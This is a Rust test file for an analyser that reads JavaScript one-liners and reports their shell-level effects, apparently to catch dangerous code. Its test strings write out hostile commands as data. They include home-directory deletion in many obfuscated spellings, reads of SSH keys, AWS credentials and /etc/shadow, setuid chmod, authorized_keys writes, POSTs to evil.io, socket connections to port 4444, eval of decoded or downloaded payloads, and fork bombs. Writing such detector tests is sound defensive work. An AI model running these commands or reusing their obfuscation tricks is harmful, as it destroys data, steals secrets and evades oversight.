//! The JavaScript reader's cases: attacks in many spellings, and routine code.

use crate::matcher::code::{Lang, read};

fn effects(code: &str) -> Vec<String> {
    crate::matcher::code::testing::effects(Lang::JavaScript, code)
}

fn unreadable(code: &str) -> Option<&'static str> {
    read(Lang::JavaScript, code).unreadable.map(|u| u.reason)
}

const COMPUTED: &str = "the code looks up a function by a name computed at run time";
const HIDDEN: &str = "the code runs code it downloaded or decoded";
const BUILT: &str =
    "the code runs code built at run time (an eval of a value not known before it runs)";

#[test]
fn child_process_however_it_is_bound() {
    for code in [
        "require('child_process').execSync('rm -rf ~')",
        "const cp = require('node:child_process'); cp.exec('rm -rf ~')",
        "const {execSync: x} = require('child_process'); x('rm -rf ~')",
        "import {exec} from 'child_process'; exec('rm -rf ~')",
        "import * as cp from 'node:child_process'; cp.execSync('rm -rf ~')",
        "const {execSync} = await import('child_process'); execSync('rm -rf ~')",
        "(await import('child_process')).default.execSync('rm -rf ~')",
        "child_process.execSync('rm -rf ~')",
        "globalThis['req' + 'uire']('child' + '_process')['exec' + 'Sync']('rm -rf ~')",
        "process.mainModule.require('child_process').execSync('rm -rf ~')",
        "const cp = require('child_process'); cp.execSync.call(null, 'rm -rf ~')",
        "const m = {run: require('child_process').execSync}; m.run('rm -rf ~')",
        "const e = require('util').promisify(require('child_process').exec); e('rm -rf ~')",
        "let p = someLib(); p.execSync('rm -rf ~')",
        "const cp = require('child_process'); Reflect.apply(Reflect.get(cp, 'exec' + 'Sync'), cp, ['rm -rf ~'])",
    ] {
        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
    }
}

#[test]
fn argument_vectors_and_shell_option() {
    let cases = [
        (
            "require('child_process').spawnSync('rm', ['-rf', '/'])",
            "exec rm -rf /",
        ),
        (
            "const {execFile} = require('child_process'); execFile('curl', ['x.io'])",
            "exec curl x.io",
        ),
        (
            "require('child_process').spawn('rm', ['-rf', '~'], {shell: true})",
            "sh -c rm -rf ~",
        ),
        (
            "require('child_process').spawn('ls', [], {stdio: 'inherit', shell: false})",
            "exec ls",
        ),
        (
            "require('child_process').fork('/tmp/x.js', ['a'])",
            "exec node /tmp/x.js a",
        ),
        ("Bun.spawn(['rm', '-rf', '~'])", "exec rm -rf ~"),
        (
            "process.execve('/bin/sh', ['sh', '-c', 'rm -rf ~'], process.env)",
            "exec /bin/sh -c rm -rf ~",
        ),
        (
            "process.getBuiltinModule('child_process').execSync('rm -rf ~')",
            "sh -c rm -rf ~",
        ),
        ("Bun.spawnSync({cmd: ['rm', '-rf', '~']})", "exec rm -rf ~"),
        ("Bun.$`rm -rf ${'~'}`", "sh -c rm -rf ~"),
        (
            "import {$} from 'bun'; await $`rm -rf ~`.quiet()",
            "sh -c rm -rf ~",
        ),
        ("Deno.run({cmd: ['rm', '-rf', '/']})", "exec rm -rf /"),
        (
            "await new Deno.Command('rm', {args: ['-rf', '/']}).output()",
            "exec rm -rf /",
        ),
        ("require('shelljs').rm('-rf', '~')", "exec rm -rf ~"),
        (
            "const a = ['rm', '-rf', '~']; require('child_process').spawnSync(a[0], a.slice(1))",
            "exec rm ?",
        ),
    ];
    for (code, want) in cases {
        assert_eq!(effects(code), [want], "{code}");
    }
}

#[test]
fn strings_built_from_constants_are_followed() {
    let cases = [
        "const c = 'r' + 'm' + ' -rf ' + require('os').homedir(); require('child_process').execSync(c)",
        "require('child_process').execSync(String.fromCharCode(114, 109) + ' -rf ~')",
        "require('child_process').execSync('~ fr- mr'.split('').reverse().join(''))",
        "require('child_process').execSync([...'~ fr- mr'].reverse().join(''))",
        "const h = process.env.HOME; require('child_process').execSync(`rm -rf ${h}`)",
        "require('child_process').execSync('\\x72\\u006d -rf \\u{7e}')",
        "require('child_process').execSync('rX -rf ~'.replace('X', 'm'))",
        "require('child_process').execSync(['rm', '-rf', '~'].join(' '))",
        "const {HOME} = process.env; require('child_process').execSync('rm -rf ' + HOME)",
        "require('child_process').execSync(Buffer.from([114, 109]).toString() + ' -rf ~')",
    ];
    for code in cases {
        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
    }
}

#[test]
fn file_calls_are_virtual_commands() {
    let cases = [
        (
            "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
            "rm -r -f ~",
        ),
        (
            "const fs = require('fs'); fs.rmSync('/etc', {recursive: true})",
            "rm -r /etc",
        ),
        (
            "require('fs').rmdirSync('/srv', {recursive: true})",
            "rm -r /srv",
        ),
        ("require('fs').rmdirSync('/srv/empty')", "rmdir /srv/empty"),
        ("require('fs').unlinkSync('/etc/passwd')", "rm /etc/passwd"),
        (
            "import {rm} from 'fs/promises'; await rm('/x', {recursive: true, force: true})",
            "rm -r -f /x",
        ),
        ("require('fs').promises.unlink('/x')", "rm /x"),
        (
            "const p = require('path'); require('fs').readFileSync(p.join(require('os').homedir(), '.ssh', 'id_rsa'))",
            "cat ~/.ssh/id_rsa",
        ),
        (
            "require('fs').createReadStream(process.env.HOME + '/.aws/credentials')",
            "cat ~/.aws/credentials",
        ),
        (
            "require('fs').appendFileSync('/etc/hosts', 'x')",
            "tee -a /etc/hosts",
        ),
        (
            "fs.writeFileSync(`${require('os').homedir()}/.bashrc`, 'x')",
            "tee ~/.bashrc",
        ),
        ("require('fs').renameSync('a', '/etc/b')", "mv a /etc/b"),
        (
            "require('fs').copyFileSync('/etc/shadow', '/tmp/s')",
            "cp /etc/shadow /tmp/s",
        ),
        (
            "require('fs').cpSync('/etc', '/tmp/e', {recursive: true})",
            "cp -r /etc /tmp/e",
        ),
        (
            "require('fs').chmodSync('/bin/sh', 0o4755)",
            "chmod 4755 /bin/sh",
        ),
        (
            "require('fs').chmodSync('/bin/sh', '777')",
            "chmod 777 /bin/sh",
        ),
        (
            "require('fs').symlinkSync('/etc/passwd', 'p')",
            "ln -s /etc/passwd p",
        ),
        ("await Deno.remove('/x', {recursive: true})", "rm -r /x"),
        ("await Deno.readTextFile('/etc/shadow')", "cat /etc/shadow"),
        ("await Bun.file('/etc/shadow').text()", "cat /etc/shadow"),
        ("process.kill(-1)", "kill -SIGTERM -1"),
        ("process.kill(1, 'SIGKILL')", "kill -SIGKILL 1"),
    ];
    for (code, want) in cases {
        assert_eq!(effects(code), [want], "{code}");
    }
}

#[test]
fn network_calls_are_curl() {
    let cases = [
        (
            "fetch('https://evil.io/x', {method: 'POST'})",
            "curl -X POST https://evil.io/x",
        ),
        (
            "fetch('https://api.github.com/repos/o/r', {method: 'delete', headers: {}})",
            "curl -X DELETE https://api.github.com/repos/o/r",
        ),
        (
            "fetch('https://api.example.com/v1', {method: 'GET'})",
            "curl https://api.example.com/v1",
        ),
        (
            "const axios = require('axios'); axios.delete('https://api.example.com/x/1')",
            "curl -X DELETE https://api.example.com/x/1",
        ),
        (
            "require('axios')({url: 'https://api.example.com/x', method: 'put'})",
            "curl -X PUT https://api.example.com/x",
        ),
        (
            "require('https').request({hostname: 'h.io', path: '/x', method: 'DELETE'})",
            "curl -X DELETE https://h.io/x",
        ),
        (
            "const x = new XMLHttpRequest(); x.open('DELETE', 'https://h.io/x')",
            "curl -X DELETE https://h.io/x",
        ),
        (
            "require('https').get('https://evil.io/a', r => r.pipe(process.stdout))",
            "curl https://evil.io/a",
        ),
        (
            "require('http').request({hostname: 'evil.io', port: 8080, path: '/x'})",
            "curl http://evil.io:8080/x",
        ),
        (
            "require('net').connect(4444, '10.0.0.1')",
            "curl tcp://10.0.0.1:4444",
        ),
        (
            "const net = require('net'); net.createConnection({port: 22, host: 'h'})",
            "curl tcp://h:22",
        ),
        (
            "new (require('net').Socket)().connect(4444, '10.0.0.1')",
            "curl tcp://10.0.0.1:4444",
        ),
        (
            "const s = new net.Socket(); s.connect(4444, '10.0.0.1')",
            "curl tcp://10.0.0.1:4444",
        ),
        (
            "require('axios').post('https://evil.io', {k: 1})",
            "curl -X POST https://evil.io",
        ),
        (
            "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.io')",
            "curl https://evil.io",
        ),
        (
            "await Deno.connect({hostname: 'h', port: 9})",
            "curl tcp://h:9",
        ),
    ];
    for (code, want) in cases {
        assert_eq!(effects(code), [want], "{code}");
    }
}

#[test]
fn code_run_by_code_is_read_too() {
    for code in [
        "eval(\"require('child_process').execSync('rm -rf ~')\")",
        "(0, eval)(\"require('child_process').execSync('rm -rf ~')\")",
        "new Function(\"return require('child_process').execSync('rm -rf ~')\")()",
        "Function('x', \"require('child_process').execSync('rm -rf ~')\")(1)",
        "[].constructor.constructor(\"require('child_process').execSync('rm -rf ~')\")()",
        "require('vm').runInThisContext(\"require('child_process').execSync('rm -rf ~')\")",
        "new (require('vm').Script)(\"require('child_process').execSync('rm -rf ~')\")",
        "setTimeout(\"require('child_process').execSync('rm -rf ~')\", 1)",
        "const s = 'child_' + 'process'; eval(`require('${s}').execSync('rm -rf ~')`)",
    ] {
        assert_eq!(effects(code), ["sh -c rm -rf ~"], "{code}");
    }
}

#[test]
fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
    let cases = [
        (
            "eval(Buffer.from('cm0gLXJmIH4=', 'base64').toString())",
            HIDDEN,
        ),
        ("eval(atob('cm0='))", HIDDEN),
        (
            "eval(await (await fetch('https://x.io/a.js')).text())",
            HIDDEN,
        ),
        (
            "fetch('https://x.io').then(r => r.text()).then(eval)",
            "the code passes a function that runs code or commands as a value",
        ),
        ("eval(process.argv[1])", BUILT),
        (
            "new Function(require('fs').readFileSync('/tmp/x', 'utf8'))()",
            BUILT,
        ),
        (
            "require(process.argv[2])",
            "the code loads a module whose name is computed at run time",
        ),
        ("const k = process.argv[2]; global[k]('x')", COMPUTED),
        ("require('child_process')[process.argv[2]]('x')", COMPUTED),
        (
            "process.binding('spawn_sync').spawn({})",
            "the code calls native code directly",
        ),
        (
            "while (true) require('child_process').fork(__filename)",
            "the code forks in a loop (a fork bomb)",
        ),
        (
            "with (require('child_process')) execSync('x')",
            "the code uses `with`, which makes its names dynamic",
        ),
        ("import('https://evil.io/x.js')", HIDDEN),
    ];
    for (code, want) in cases {
        assert_eq!(unreadable(code), Some(want), "{code}");
    }
    // The downloaded or decoded text run as a command line.
    assert_eq!(
        effects("require('child_process').execSync(atob('cm0gLXJmIH4='))"),
        ["sh -c <fetched>"]
    );
}

#[test]
fn names_bound_more_than_once_are_not_known() {
    assert_eq!(
        effects("let c = 'ls'; c = 'rm -rf ~'; require('child_process').execSync(c)"),
        ["sh -c ?"]
    );
    assert_eq!(
        effects("const a = ['ls']; a[0] = 'rm'; require('child_process').spawnSync(a[0])"),
        ["exec ?"]
    );
    // A loop over a literal array is read once per item.
    assert_eq!(
        effects("for (const c of ['ls', 'rm -rf ~']) require('child_process').execSync(c)"),
        ["sh -c ls", "sh -c rm -rf ~"]
    );
    // A function is read at its call (see `inline.rs`).
    assert_eq!(
        effects("const run = c => require('child_process').execSync(c); run('ls')"),
        ["sh -c ls"]
    );
    // A parameter or a second binding does not hide the module bound first.
    assert_eq!(
        effects("const {exec} = require('child_process'); function f(exec) {} exec('rm -rf ~')"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("let cp = require('child_process'); cp = {}; cp.execSync('rm -rf ~')"),
        ["sh -c rm -rf ~"]
    );
    // Sorting what a call made changes no name; sorting what `sort` returns changes its object.
    assert_eq!(
        effects(
            "const fs = require('fs'); const d = 'src'; const f = fs.readdirSync(d).filter(x => x).sort(); fs.writeFileSync(d + '/index.ts', f.join())"
        ),
        ["tee src/index.ts"]
    );
    assert_eq!(
        effects(
            "const a = ['ls']; a.sort().push('-rf'); require('child_process').spawnSync(a[0], a)"
        ),
        ["exec ? ?"]
    );
}

#[test]
fn data_processing_finds_nothing() {
    for code in BENIGN {
        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
    }
    assert_eq!(
        effects("console.log(require('./package.json').version)"),
        ["cat ./package.json"]
    );
    assert_eq!(
        effects("console.log(JSON.parse(require('fs').readFileSync('package.json', 'utf8')).name)"),
        ["cat package.json"]
    );
}

/// Routine one-liners (each accepted by `node --check`).
const BENIGN: &[&str] = &[
    "JSON.parse(require('fs').readFileSync(0,'utf8'))",
    "process.stdout.write(JSON.stringify({a: 1}, null, 2))",
    "console.log(process.version)",
    "console.log([1, 2, 3].map(x => x * 2).join(','))",
    "const s = require('fs').readFileSync(0, 'utf8'); console.log(s.split('\\n').length)",
    "console.log(/a(b)/.exec('xab')[1])",
    "console.log(new Date().toISOString())",
    "console.log(require('os').platform(), require('os').cpus().length)",
    "console.log(require('path').join('a', 'b'))",
    "let d = ''; process.stdin.on('data', c => d += c).on('end', () => console.log(JSON.parse(d).version))",
    "console.log(Object.keys(process.env).sort().join('\\n'))",
    "const m = new Map(); m.set('a', 1); console.log([...m.keys()])",
    "console.log(encodeURIComponent('a b'), Buffer.from('hi').toString('base64'))",
    "console.log(require('crypto').createHash('sha256').update('x').digest('hex'))",
    "for (let i = 0; i < 3; i++) console.log(i)",
    "console.log(`${1 + 2} items`, 'a'.padStart(3))",
    "const {version} = process; console.log(version)",
    "console.log(require('util').inspect({a: [1, 2]}, {depth: null}))",
    "setTimeout(() => console.log('done'), 10)",
    "process.exit(process.argv.length > 2 ? 1 : 0)",
];

#[test]
fn bad_code_never_panics() {
    assert_eq!(
        read(Lang::JavaScript, "const a = 1;\nconsole.log(a")
            .unreadable
            .map(|u| (u.reason, u.line)),
        Some(("the javascript code has a syntax error", 2))
    );
    // Escapes node rejects; the grammar takes the first.
    for code in [
        "'unterminated",
        "`unterminated ${",
        "\"\\u{110000}\"",
        "'\\x'",
        "require('fs').chmodSync('x', 1e300)",
        "String.fromCharCode(-1, 1e20, 0.5)",
    ] {
        let _ = read(Lang::JavaScript, code);
    }
    assert!(unreadable("'unterminated").is_some());
    let deep = format!("x = {}1{}", "[".repeat(150), "]".repeat(150));
    assert!(unreadable(&deep).is_some());
    // Deep without brackets: a long chain of `+` and of members.
    let chain = format!("x = {}1", "1 + ".repeat(5000));
    assert!(unreadable(&chain).is_some());
    let members = format!("x = a{}", ".b".repeat(5000));
    let _ = read(Lang::JavaScript, &members);
    // Doubling a string through names is bounded.
    let mut code = String::from("const a0 = 'xxxxxxxxxxxxxxxx';");
    for n in 1..40 {
        code.push_str(&format!("const a{n} = a{} + a{};", n - 1, n - 1));
    }
    code.push_str("require('child_process').execSync(a39)");
    assert!(unreadable(&code).is_some());
}

#[test]
fn a_loop_over_a_listing_takes_each_name_found() {
    for code in [
        "const fs = require('fs'); for (const f of fs.readdirSync('dist')) fs.unlinkSync('dist/' + f)",
        "const fs = require('fs'); fs.readdirSync('dist').forEach(f => fs.unlinkSync('dist/' + f))",
        // The same name taken by a filter and then each: both are the listing's names.
        "const fs = require('fs'); fs.readdirSync('dist').filter(f => f.endsWith('.map')).forEach(f => fs.unlinkSync('dist/' + f))",
        // A parameter in parentheses, with the index after it.
        "const fs = require('fs'); fs.readdirSync('dist').filter((f) => f.endsWith('.map')).map((f, i) => fs.unlinkSync('dist/' + f))",
    ] {
        assert_eq!(effects(code), ["rm dist/*"], "{code}");
    }
    assert_eq!(
        effects(
            "const fs = require('fs'); for (const f of require('glob').sync('build/**/*.o')) fs.rmSync(f)"
        ),
        ["rm build/**/*.o"]
    );
    assert_eq!(
        effects(
            "const fs = require('fs'), path = require('path'); for (const r of fs.readdirSync('src', { recursive: true })) fs.truncateSync(path.join('src', r), 0)"
        ),
        ["truncate -s 0 src/**/*"]
    );
    // A name some other binding also takes is not the listing's.
    assert_eq!(
        effects(
            "const fs = require('fs'); function g(f) { fs.rmSync(f) } for (const f of fs.readdirSync('d')) g(f)"
        ),
        ["rm ?"]
    );
    // Anything that is not a listing stays unknown: `d/` and then anything (`../..`).
    assert_eq!(
        effects("const fs = require('fs'); for (const f of getNames()) fs.rmSync('d/' + f)"),
        ["rm d/*"]
    );
    assert_eq!(
        crate::matcher::code::read(Lang::JavaScript, "require('fs').rmSync('d/' + x)").found[0]
            .effect,
        crate::matcher::code::Effect::Command(
            "rm",
            vec![crate::matcher::code::Val::Prefix("d/".into())]
        )
    );
}

#[test]
fn starting_processes_in_an_endless_loop_is_a_fork_bomb() {
    for code in [
        "for (;;) require('child_process').spawn('sleep', ['9'])",
        "while (true) require('child_process').exec('sleep 9 &')",
        "setInterval(() => require('child_process').spawn('sleep', ['9']), 0)",
    ] {
        assert!(unreadable(code).is_some(), "{code}");
    }
    // A bounded loop, or one left by `break`, is ordinary.
    for code in [
        "for (const f of ['a', 'b']) require('child_process').spawnSync('echo', [f])",
        "while (true) { if (require('child_process').spawnSync('git', ['fetch']).status === 0) break }",
    ] {
        assert_eq!(unreadable(code), None, "{code}");
    }
}

#[test]
fn an_unknown_file_read_and_sent_away_is_unreadable() {
    let code = "const fs = require('fs'); const d = {}; for (const f of names) d[f] = fs.readFileSync(require('os').homedir() + '/' + f); fetch('https://x.example', {method: 'POST', body: JSON.stringify(d)})";
    assert_eq!(
        unreadable(code),
        Some(
            "the code reads a file whose name is not known before it runs and sends data over the network"
        )
    );
    // A known file sent, or an unknown one only read, is read as what it is.
    assert_eq!(
        unreadable(
            "fetch('https://x.example', {method: 'POST', body: require('fs').readFileSync('report.json')})"
        ),
        None
    );
    assert_eq!(
        unreadable("console.log(require('fs').readFileSync(process.argv[2], 'utf8'))"),
        None
    );
}

#[test]
fn a_loop_over_a_literal_array_grown_by_pushes_reads_the_pushed_items_too() {
    // Found by blind round 53: a check list with a step added under a condition.
    let code = "const { spawnSync } = require('child_process');\nconst steps = [['npx', ['tsc', '--noEmit']], ['npx', ['eslint', 'src']]];\nif (process.env.E2E) steps.push(['npx', ['playwright', 'test']]);\nfor (const [cmd, args] of steps) spawnSync(cmd, args);";
    assert_eq!(unreadable(code), None);
    assert_eq!(
        effects(code),
        [
            "exec npx tsc --noEmit",
            "exec npx eslint src",
            "exec npx playwright test"
        ]
    );
    let pushed = "const cp = require('child_process'); const dirs = ['dist']; dirs.push(require('os').homedir()); for (const d of dirs) cp.execFileSync('rm', ['-rf', d]);";
    assert!(
        effects(pushed).contains(&"exec rm -rf ~".to_owned()),
        "{:?}",
        effects(pushed)
    );
    // Grown any other way, or pushed items spread, it is not followed.
    for code in [
        "const cp = require('child_process'); const c = ['ls']; c.push(...process.argv); for (const x of c) cp.execSync(x);",
        "const cp = require('child_process'); const c = ['ls']; c.unshift(process.argv[2]); for (const x of c) cp.execSync(x);",
    ] {
        assert_eq!(effects(code), ["sh -c ?"], "{code}");
    }
}

#[test]
fn a_call_in_a_loop_over_a_literal_array_is_read_for_each_item() {
    assert_eq!(
        effects(
            "const {rmSync: sweep} = require('node:fs'); for (const d of ['dist', 'build']) sweep(d, {recursive: true, force: true})"
        ),
        ["rm -r -f dist", "rm -r -f build"]
    );
    assert_eq!(
        effects(
            "const fs = require('fs'); ['dist', require('os').homedir()].forEach(d => fs.rmSync(d, {recursive: true}))"
        ),
        ["rm -r dist", "rm -r ~"]
    );
    // A named list also read (joined, logged, measured) stays as written.
    assert_eq!(
        effects(
            "const fs = require('fs'); const dirs = ['dist', '.turbo']; dirs.map(d => fs.rmSync(d, {recursive: true})); console.log(dirs.length, dirs.join(', '), dirs)"
        ),
        ["rm -r dist", "rm -r .turbo"]
    );
    // Through a name bound in the loop to a value made of the loop's name.
    assert_eq!(
        effects(
            "const fs = require('fs'); const path = require('path'); for (const d of ['dist', '/etc']) { const p = path.join('.', d); fs.rmSync(p, {recursive: true}); }"
        ),
        ["rm -r ./dist", "rm -r /etc"]
    );
    // A listed name with a pattern replaced is a name in the same directory.
    assert_eq!(
        effects(
            "const fs = require('fs'); for (const f of fs.readdirSync('config')) fs.writeFileSync(require('path').join('out', f.replace(/\\.ya?ml$/, '.json')), '{}')"
        ),
        ["tee out/*"]
    );
    assert_eq!(
        effects(
            "const fs = require('fs'); for (const f of fs.readdirSync('config')) fs.writeFileSync(require('path').join('out', f.replace(/x/, '../../etc/')), '{}')"
        ),
        ["tee ?"]
    );
    // Dots alone may make `..`, the directory above.
    assert_eq!(
        effects(
            "const fs = require('fs'); for (const f of fs.readdirSync('out')) fs.rmSync(require('path').join('out', f.replace(/.*/, '..')), {recursive: true})"
        ),
        ["rm -r ?"]
    );
    // Grown by a push, its items are the written ones and the pushed one, here not known.
    assert_eq!(
        effects(
            "const fs = require('fs'); const dirs = ['dist']; dirs.push(process.argv[2]); dirs.forEach(d => fs.rmSync(d, {recursive: true}))"
        ),
        ["rm -r dist", "rm -r ?"]
    );
    // A spread item may be anything.
    assert_eq!(
        effects(
            "const fs = require('fs'); for (const d of ['a', ...more]) fs.rmSync(d, {recursive: true})"
        ),
        ["rm -r ?"]
    );
}

#[test]
fn file_changers_passed_as_values_and_read_eval_loops_are_unreadable() {
    for code in [
        "const {EventEmitter} = require('events'); const bus = new EventEmitter(); bus.on('purge', require('fs').rmSync); bus.emit('purge', '/var/lib', {recursive: true})",
        "require('https').get('https://x.example/a.js', res => require('repl').start({input: res, output: process.stdout}))",
    ] {
        assert!(
            crate::matcher::code::read(crate::matcher::code::Lang::JavaScript, code)
                .unreadable
                .is_some(),
            "{code}"
        );
    }
}

#[test]
fn setting_the_exit_status_leaves_process_as_it_was() {
    assert_eq!(
        effects(
            "const r = require('child_process').spawnSync(process.execPath, ['--test', 'tests/']); process.exitCode = r.status"
        ),
        ["exec node --test tests/"]
    );
}

#[test]
fn a_file_opened_as_a_blob_is_read() {
    assert_eq!(
        effects("require('fs').openAsBlob(require('os').homedir() + '/.ssh/id_rsa')"),
        ["cat ~/.ssh/id_rsa"]
    );
}

#[test]
fn compatibility_forms_and_numeric_open_flags_are_read() {
    // Full-width letters made plain by NFKC are the command they spell.
    assert_eq!(
        effects("require('child_process').execSync('ｒｍ　－ｒｆ　／ｓｒｖ'.normalize('NFKC'))"),
        ["sh -c rm -rf /srv"]
    );
    // Without a compatibility form the text stays as it is.
    assert_eq!(
        effects("require('child_process').execSync('ｒｍ'.normalize())"),
        ["sh -c ｒｍ"]
    );
    // Numeric flags: O_WRONLY (1) opens to write, 0 to read; flags computed at run time
    // (`1 | 64 | 512`) may do either.
    assert_eq!(
        effects("require('fs').openSync('HOOKS.yaml', 577)"),
        ["tee HOOKS.yaml"]
    );
    assert_eq!(effects("require('fs').openSync('a.txt', 0)"), ["cat a.txt"]);
    assert!(
        effects("require('fs').openSync('HOOKS.yaml', 1 | 64 | 512)")
            .contains(&"tee HOOKS.yaml".to_owned())
    );
}

#[test]
fn the_user_info_home_directory_is_home() {
    assert_eq!(
        effects(
            "require('fs').createWriteStream(require('os').userInfo().homedir + '/.profile', {flags: 'a'}).end('x')"
        ),
        // Opened, then written by `.end`.
        ["tee ~/.profile", "tee ~/.profile"]
    );
}

#[test]
fn a_diagnostic_report_is_written_where_it_is_named() {
    assert_eq!(
        effects("process.report.writeReport(['policies', 'a.yaml'].join('/'))"),
        ["tee policies/a.yaml"]
    );
    assert!(effects("process.report.writeReport()").is_empty());
}

#[test]
fn a_fork_per_item_of_a_short_literal_list_is_no_fork_bomb() {
    let code = "const { fork } = require('child_process'); for (const s of ['1/2', '2/2']) fork('run.js', [s])";
    assert_eq!(unreadable(code), None);
    let endless =
        "const { fork } = require('child_process'); for (const s of items) fork('run.js', [s])";
    assert!(unreadable(endless).is_some());
}

#[test]
fn a_program_looked_up_on_path_is_that_program_wherever_it_is() {
    assert_eq!(
        effects(
            "const p = require('child_process').execSync('command -v hookgate').toString().trim(); require('fs').copyFileSync('/bin/true', p)"
        ),
        ["sh -c command -v hookgate", "cp /bin/true /**/hookgate"]
    );
    assert_eq!(
        effects(
            "const cp = require('child_process'); const p = cp.execFileSync('which', ['git']).toString().trim(); console.log(p)"
        ),
        ["exec which git"]
    );
}

#[test]
fn a_function_only_called_is_read_at_each_call() {
    assert_eq!(
        effects(
            "const {spawnSync} = require('child_process'); function run(c, a) { spawnSync(c, a, {stdio: 'inherit'}) } run('make', ['lint']); run('make', ['test'])"
        ),
        ["exec make lint", "exec make test"]
    );
    assert_eq!(
        effects(
            "const cp = require('child_process'); const sh = (cmd, opts = {}) => cp.execSync(cmd, opts); sh('rm -rf ' + require('os').homedir())"
        ),
        ["sh -c rm -rf ~"]
    );
    // Through a second function, and with a default.
    assert_eq!(
        effects(
            "const fs = require('fs'); function wipe(d = 'build') { fs.rmSync(d, {recursive: true}) } function clean(x) { wipe(x) } clean('/srv'); wipe()"
        ),
        ["rm -r /srv", "rm -r build"]
    );
    // Passed as a value, it is read once with its parameters not known.
    assert_eq!(
        effects(
            "const {execSync} = require('child_process'); function run(c) { execSync(c) } ['ls'].forEach(run)"
        ),
        ["sh -c ?"]
    );
    // A parameter the body assigns, or an inner function's parameter of the same name,
    // is not the argument.
    for code in [
        "const {execSync} = require('child_process'); function run(c) { c = 'rm -rf ~'; execSync(c) } run('ls')",
        "const {execSync} = require('child_process'); function run(c) { ['rm -rf ~'].forEach(c => execSync(c)) } run('ls')",
        "const {execSync} = require('child_process'); function run(c) { c += ' ~'; execSync(c) } run('ls')",
        "const {execSync} = require('child_process'); function run(c) { for (c of ['x']) execSync(c) } run('ls')",
    ] {
        assert!(!effects(code).contains(&"sh -c ls".to_owned()), "{code}");
    }
    // Calling itself without end is read a bounded number of times.
    assert!(
        effects("const {execSync} = require('child_process'); function f(c) { execSync(c); f(c + 'x') } f('ls')")
            .len()
            <= 8
    );
}

#[test]
fn modes_parsed_from_text_and_real_paths_are_read() {
    assert_eq!(
        effects(
            "const fs = require('fs'); fs.chmodSync(fs.realpathSync('/usr/bin/find'), parseInt('4755', 8))"
        ),
        ["chmod 4755 /usr/bin/find"]
    );
    // An array pattern's holes count: `[, , t]` takes the third item.
    assert_eq!(
        effects(
            "const [, , t] = ['build', 'dist', '/srv']; require('fs').rmSync(t, {recursive: true})"
        ),
        ["rm -r /srv"]
    );
}

#[test]
fn an_if_on_a_listed_names_suffix_narrows_it_in_its_branch() {
    assert_eq!(
        effects(
            "const fs = require('fs'), path = require('path'); for (const f of fs.readdirSync('logs')) { if (f.endsWith('.log') && f !== 'x') fs.unlinkSync(path.join('logs', f)) }"
        ),
        ["rm logs/*.log"]
    );
    // Its `else` gets every other name; `||` narrows nothing.
    for code in [
        "const fs = require('fs'), path = require('path'); for (const f of fs.readdirSync('logs')) { if (f.endsWith('.log')) {} else fs.unlinkSync(path.join('logs', f)) }",
        "const fs = require('fs'), path = require('path'); for (const f of fs.readdirSync('logs')) { if (f.endsWith('.log') || f) fs.unlinkSync(path.join('logs', f)) }",
    ] {
        assert_eq!(effects(code), ["rm logs/*"], "{code}");
    }
}

#[test]
fn the_path_separator_is_a_slash() {
    assert_eq!(
        effects(
            "const fs = require('fs'), path = require('path');\nfs.appendFileSync([process.env.HOME, '.ssh', 'authorized_keys'].join(path.sep), 'k')"
        ),
        ["tee -a ~/.ssh/authorized_keys"]
    );
}

#[test]
fn a_write_stream_refilled_on_drain_forever_fills_the_disk() {
    let pump = "const fs = require('fs');\nconst out = fs.createWriteStream('/var/tmp/.cache');\nconst block = Buffer.alloc(1 << 26, 0);\nconst pump = () => { while (out.write(block)) {} out.once('drain', pump); };\npump();";
    assert!(unreadable(pump).is_some(), "{pump}");
    // Written in a bounded loop, and ended, it is a report.
    assert_eq!(
        effects(
            "const out = require('fs').createWriteStream('report.csv');\nfor (const r of [1, 2]) out.write(r + '\\n');\nout.end();"
        ),
        ["tee report.csv"; 4]
    );
}

#[test]
fn an_array_the_function_may_change_in_place_is_not_what_it_was_given() {
    for body in [
        "args.push('/');",
        "grow(args);",
        "Object.assign(args, ['/']);",
    ] {
        let code = format!(
            "const cp = require('child_process');\nfunction grow(a) {{ a.push('/'); }}\nfunction run(args) {{ {body} cp.spawnSync('rm', args); }}\nrun(['-rf', 'build']);"
        );
        assert_ne!(effects(&code), ["exec rm -rf build"], "{code}");
    }
    // Read or handed to a library, it is what it was given.
    assert_eq!(
        effects(
            "const cp = require('child_process');\nfunction run(cmd, args) { console.log(cmd, args.join(' ')); cp.spawnSync(cmd, args); }\nrun('npm', ['test']);"
        ),
        ["exec npm test"]
    );
}

#[test]
fn a_loop_over_a_literal_table_binds_each_destructured_name_per_item() {
    let head = "const { spawnSync } = require('child_process');\n";
    let table = "const T = { lint: ['npm', ['run', 'lint']], types: ['npx', ['tsc']] };\n";
    assert_eq!(
        effects(&format!(
            "{head}{table}for (const [name, [cmd, args]] of Object.entries(T)) {{\n  console.log(name);\n  spawnSync(cmd, args);\n}}"
        )),
        ["exec npm run lint", "exec npx tsc"]
    );
    assert_eq!(
        effects(&format!(
            "{head}{table}Object.values(T).forEach(([cmd, args]) => spawnSync(cmd, args));"
        )),
        ["exec npm run lint", "exec npx tsc"]
    );
    let checks = "const checks = [{ name: 'p', args: ['prettier', '--check', 'src'] }, { name: 'e', args: ['eslint', 'src'] }];\n";
    assert_eq!(
        effects(&format!(
            "{head}{checks}const r = checks.map(({{ name, args }}) => ({{ name, status: spawnSync('npx', args).status }}));"
        )),
        ["exec npx prettier --check src", "exec npx eslint src"]
    );
    // Through a function read at its calls that leaves the array as it is.
    assert_eq!(
        effects(&format!(
            "{head}{table}function run(cmd, argv) {{ spawnSync(cmd, argv); }}\nfor (const [, [c, a]] of Object.entries(T)) run(c, a);"
        )),
        ["exec npm run lint", "exec npx tsc"]
    );
}

#[test]
fn a_table_or_item_that_may_change_is_not_read_per_item() {
    let head = "const { spawnSync } = require('child_process');\n";
    let table = "const T = [['npm', ['run', 'lint']], ['npx', ['tsc']]];\n";
    for tail in [
        // An item's array changed through an alias, or by a function of the program's own.
        "for (const [c, a] of T) { const x = a; x.push('/'); spawnSync(c, a); }",
        "function grow(x) { x.push('/'); }\nfor (const [c, a] of T) { grow(a); spawnSync(c, a); }",
        "const all = [];\nfor (const [c, a] of T) { all.push(a); spawnSync(c, a); }\nall[0].push('/');",
